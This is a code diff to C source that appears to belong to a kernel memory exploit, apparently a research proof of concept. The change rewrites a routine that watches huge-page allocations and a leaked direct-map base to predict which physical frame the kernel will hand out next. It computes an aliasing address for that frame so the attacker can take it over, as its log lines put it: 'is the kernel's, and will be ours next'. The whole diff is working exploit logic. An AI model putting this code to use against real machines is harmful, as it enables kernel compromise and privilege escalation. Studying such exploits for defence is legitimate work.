@@ -15,7 +15,7 @@ enum {
 	FRAMES_PER_HUGE = BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE,
 	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
 	CHOSEN_FRAME = 300, /* any but the first ones */
-	MOST_HUGE_PAGES = 1024,
+	SHARE_LEFT = 8,
 	MOST_HUNTED_PAGES = 1 << 15,
 	RUN_SEARCH_PAGES = 2048,
 };
@@ -25,41 +25,72 @@ struct huge_page {
 	bool was_revealed; /* it came out of the direct map for this */
 };
 
-static uint64_t nr_revealed(void)
+static struct bw_memory_info memory_now(void)
 {
 	struct bw_memory_info info = { 0 };
 
 	bw_memory_info(&info);
-	return info.nr_free_revealed;
+	return info;
 }
 
-static struct huge_page huge_page_take(void)
+/* So many that the pages still to come will be found, and nobody else goes without. */
+static bool enough_is_revealed(void)
 {
-	uint64_t before = nr_revealed();
-	uint64_t pfn = attack_pfn(attack_huge_page());
+	struct bw_memory_info info = memory_now();
 
-	return (struct huge_page){ pfn, nr_revealed() + FRAMES_PER_HUGE <= before };
+	return info.nr_free_revealed > 2 * FRAMES_PER_BLOCK &&
+	       info.nr_free_revealed + info.nr_free_hidden > info.nr_frames_usable / SHARE_LEFT;
+}
+
+static struct huge_page huge_page_take(void **address)
+{
+	uint64_t before = memory_now().nr_free_revealed;
+	uint64_t pfn;
+
+	*address = attack_huge_page();
+	pfn = attack_pfn(*address);
+	return (struct huge_page){ pfn, memory_now().nr_free_revealed + FRAMES_PER_HUGE <= before };
+}
+
+static void choose(const struct bw_leak *leak, uint64_t first_pfn, struct attack_frame *frame)
+{
+	frame->pfn = first_pfn + CHOSEN_FRAME;
+	frame->synonym = leak->direct_map_base + frame->pfn * BW_PAGE_SIZE;
 }
 
 static bool is_lower_half(uint64_t pfn) { return pfn % FRAMES_PER_BLOCK == 0; }
 
+/* True where the one before the latest completed a block, and the latest began one. */
+static bool is_block_begun(const struct huge_page latest[3])
+{
+	for (int i = 0; i < 3; i++) {
+		if (!latest[i].was_revealed) {
+			return false;
+		}
+	}
+	return is_lower_half(latest[0].pfn) && is_lower_half(latest[2].pfn) &&
+	       latest[1].pfn == latest[0].pfn + FRAMES_PER_HUGE;
+}
+
 void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame)
 {
 	struct huge_page latest[3] = { { 0 } };
+	void *address;
 
-	for (int i = 0; i < MOST_HUGE_PAGES; i++) {
+	do {
 		latest[0] = latest[1];
 		latest[1] = latest[2];
-		latest[2] = huge_page_take();
-		if (latest[0].was_revealed && latest[1].was_revealed && latest[2].was_revealed &&
-		    is_lower_half(latest[0].pfn) && is_lower_half(latest[2].pfn) &&
-		    latest[1].pfn == latest[0].pfn + FRAMES_PER_HUGE) {
-			frame->pfn = latest[2].pfn + FRAMES_PER_HUGE + CHOSEN_FRAME;
-			frame->synonym = leak->direct_map_base + frame->pfn * BW_PAGE_SIZE;
+		latest[2] = huge_page_take(&address);
+		if (is_block_begun(latest)) {
+			choose(leak, latest[2].pfn + FRAMES_PER_HUGE, frame);
+			attack_say("frame 0x%lx is the kernel's, and will be ours next",
+				   frame->pfn);
 			return;
 		}
-	}
-	attack_skip("memory is too fragmented to tell which frame comes next");
+	} while (enough_is_revealed());
+	munmap(address, BW_HUGE_PAGE_SIZE);
+	choose(leak, latest[2].pfn, frame);
+	attack_say("frame 0x%lx was ours, is free, and will be ours again", frame->pfn);
 }
 
 void *attack_frame_take(const struct attack_frame *frame)
